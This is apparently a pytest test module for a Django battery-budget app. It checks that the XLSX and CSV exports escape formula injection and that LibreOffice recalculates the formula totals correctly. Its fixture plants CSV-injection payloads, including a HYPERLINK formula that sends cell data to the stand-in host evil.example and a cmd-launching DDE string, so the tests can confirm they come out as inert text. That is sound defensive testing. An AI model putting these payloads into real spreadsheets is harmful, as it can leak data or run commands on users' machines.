"""The budget workbook for finance: totals are formulas over the rows, text never becomes a formula, and a real
spreadsheet engine (LibreOffice, headless) recalculates the totals to what the screen shows."""
import csv
import datetime as dt
import io
import os
import re
import shutil
import subprocess
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from fleetcare.budget.models import BudgetAssumptions
from fleetcare.fleet.models import Battery, BatteryProfile

# OWASP "CSV Injection": a cell starting with one of these is read as a formula.
PLANTED = {
    "equals": '=HYPERLINK("https://evil.example/?"&A1,"B02")',
    "plus": "+SUM(1,2)",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1,2)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
}


@pytest.fixture
def planted(world, site, traction_profile):
    """Batteries whose serials (and a profile whose name) are formulas, and a currency that is one."""
    BudgetAssumptions.objects.create(pk=1, currency="=1+1", fiscal_year_start_month=4)
    profile = BatteryProfile.objects.create(
        name="@SUM(9,9) 36 V", technology="flooded", application="traction", nominal_voltage=36, monoblocks=1,
        cells_per_block=18, capacity_ah=620, full_charge_sg=Decimal("1.290"), discharged_sg=Decimal("1.140"),
        unit_price=Decimal("5200"), weight_kg=Decimal("900"),
    )
    for i, serial in enumerate(PLANTED.values()):
        Battery.objects.create(serial=serial, profile=profile if i == 0 else traction_profile, site=site,
                               in_service_date=dt.date(2019, 1, 1))
    return PLANTED


def every_text_cell(workbook):
    return [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row if isinstance(cell.value, str)]


def test_planted_formulas_are_written_as_inert_text_in_the_xlsx(manager_client, planted):
    wb = load_workbook(io.BytesIO(manager_client.get(reverse("budget:export_xlsx")).content))
    texts = every_text_cell(wb)
    for value in planted.values():  # (a carriage return is stored as Excel's _x000D_, which openpyxl leaves as is)
        assert "'" + value.replace("\r", "_x000D_") in {c.value for c in texts}, repr(value)
    for cell in texts:
        if cell.data_type == "f":
            assert re.fullmatch(r"=(SUM|SUMIFS|COUNTIFS|COUNTA)\(.*\)|=O\d+\+P\d+-Q\d+", cell.value), cell.value
        else:
            assert cell.data_type == "s"
            assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cell.value)
    assumptions = dict(wb["Assumptions"].iter_rows(min_row=2, values_only=True))
    assert assumptions["Currency"] == "'=1+1"
    assert "'@SUM(9,9) 36 V" in {c.value for c in wb["Batteries"]["F"]}


def test_planted_formulas_are_inert_in_the_budget_csv(manager_client, planted):
    rows = list(csv.reader(io.StringIO(manager_client.get(reverse("budget:export_csv")).content.decode())))
    cells = [value for row in rows for value in row]
    for value in planted.values():
        assert "'" + value in cells
    assert ["Currency", "'=1+1"] in rows
    starts = [v for v in cells if v.startswith(("=", "+", "@", "\t", "\r"))]
    assert starts == []
    negative_text = [v for v in cells if v.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?", v)]
    assert negative_text == []  # only negative numbers may start with a minus


def test_money_headers_and_formats_carry_the_currency(manager_client, world):
    BudgetAssumptions.objects.create(pk=1, currency="GBP")
    wb = load_workbook(io.BytesIO(manager_client.get(reverse("budget:export_xlsx")).content))
    assert wb["By quarter"]["E1"].value == "Amount (GBP)"
    assert wb["By fiscal year"]["C1"].value == "Amount (GBP)"
    header = [c.value for c in wb["Batteries"][1]]
    assert header[13:19] == ["Unit price (GBP)", "Escalated price (GBP)", "Installation (GBP)", "Scrap credit (GBP)",
                             "Amount (GBP)", "Whole battery instead (GBP)"]
    assert wb["Batteries"]["R2"].number_format == '#,##0.00 "GBP"'
    assert wb["By quarter"]["E2"].number_format == '#,##0.00 "GBP"'
    text = manager_client.get(reverse("budget:export_csv")).content.decode()
    assert "Quarter,Quarter starts,Fiscal year,Events,Amount (GBP)" in text


def test_each_sheet_holds_one_table_and_its_totals_are_formulas(manager_client, world):
    wb = load_workbook(io.BytesIO(manager_client.get(reverse("budget:export_xlsx")).content))
    for name in ("By quarter", "By fiscal year", "Batteries"):
        ws = wb[name]
        first_column = [c.value for c in ws["A"]]
        assert None not in first_column, name  # no blank row: one table, then its Total row
        assert first_column[-1] == "Total"
    lines = wb["Batteries"].max_row - 2
    assert wb["Batteries"]["R2"].value == "=O2+P2-Q2"
    assert wb["Batteries"].cell(lines + 2, 18).value == f"=SUM(R2:R{lines + 1})"
    assert wb["By quarter"]["E2"].value.startswith("=SUMIFS(Batteries!$R$2:$R$")
    assert wb["By fiscal year"]["C2"].value.startswith("=SUMIFS(Batteries!$R$2:$R$")


def libreoffice():
    path = shutil.which("soffice") or shutil.which("libreoffice")
    if path is None:
        if os.environ.get("CI") == "true":
            pytest.fail("LibreOffice is needed under CI (apt-get install libreoffice-calc-nogui)")
        pytest.skip("LibreOffice is not installed")
    return path


RECALCULATE_ON_LOAD = """<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry" xmlns:xs="http://www.w3.org/2001/XMLSchema"
  xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse">
<value>0</value></prop></item>
</oor:items>
"""


def recalculated_by_libreoffice(xlsx_path, tmp_path):
    """Every sheet as CSV after LibreOffice recalculated every formula on load (a profile of its own says so)."""
    soffice = libreoffice()
    profile = tmp_path / "lo-profile"
    (profile / "user").mkdir(parents=True)
    (profile / "user" / "registrymodifications.xcu").write_text(RECALCULATE_ON_LOAD)
    out = tmp_path / "lo-out"
    filter_options = "44,34,76,1,,0,false,true,false,false,false,-1"  # UTF-8, raw values, every sheet
    subprocess.run(
        [soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore",
         "--convert-to", f"csv:Text - txt - csv (StarCalc):{filter_options}", "--outdir", str(out), str(xlsx_path)],
        check=True, capture_output=True, timeout=180,
    )
    return {path.stem.split("-", 1)[1]: list(csv.reader(path.open(encoding="utf-8"))) for path in out.glob("*.csv")}


def without_cached_values(content):
    """The workbook with every formula's stored result replaced by 0: only a recalculation brings them back."""
    source, target = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename.startswith("xl/worksheets/"):
                data = re.sub(rb"(<f>[^<]*</f>)<v>[^<]*</v>", rb"\1<v>0</v>", data)
            out.writestr(item, data)
    return target.getvalue()


def test_libreoffice_recalculates_the_totals_to_what_the_screen_shows(manager_client, world, tmp_path):
    BudgetAssumptions.objects.create(pk=1, currency="EUR", installation_cost=Decimal("450"),
                                     scrap_credit_per_kg=Decimal("0.6"), escalation_percent=Decimal("3.5"),
                                     cell_cost=Decimal("380"), fiscal_year_start_month=4)
    screen = manager_client.get(reverse("budget:home")).context["budget"]
    assert screen.count >= 3
    path = tmp_path / "budget.xlsx"
    path.write_bytes(without_cached_values(manager_client.get(reverse("budget:export_xlsx")).content))
    assert b"<v>0</v>" in zipfile.ZipFile(path).read("xl/worksheets/sheet2.xml")

    sheets = recalculated_by_libreoffice(path, tmp_path)

    quarters = sheets["By quarter"][1:]
    assert [(r[0], r[2], int(r[3]), round(float(r[4]), 2)) for r in quarters[:-1]] == [
        (q.label, q.fiscal_year, q.count, float(q.amount)) for q in screen.quarters]
    assert quarters[-1][0] == "Total"
    assert (int(quarters[-1][3]), round(float(quarters[-1][4]), 2)) == (screen.count, float(screen.total))

    years = sheets["By fiscal year"][1:]
    assert [(r[0], int(r[1]), round(float(r[2]), 2)) for r in years[:-1]] == [
        (f.label, f.count, float(f.amount)) for f in screen.fiscal_years]
    assert (int(years[-1][1]), round(float(years[-1][2]), 2)) == (screen.count, float(screen.total))

    lines = sheets["Batteries"][1:]
    assert [round(float(r[17]), 2) for r in lines[:-1]] == [float(ln.amount) for ln in screen.lines]
    assert (int(lines[-1][3]), round(float(lines[-1][17]), 2)) == (screen.count, float(screen.total))
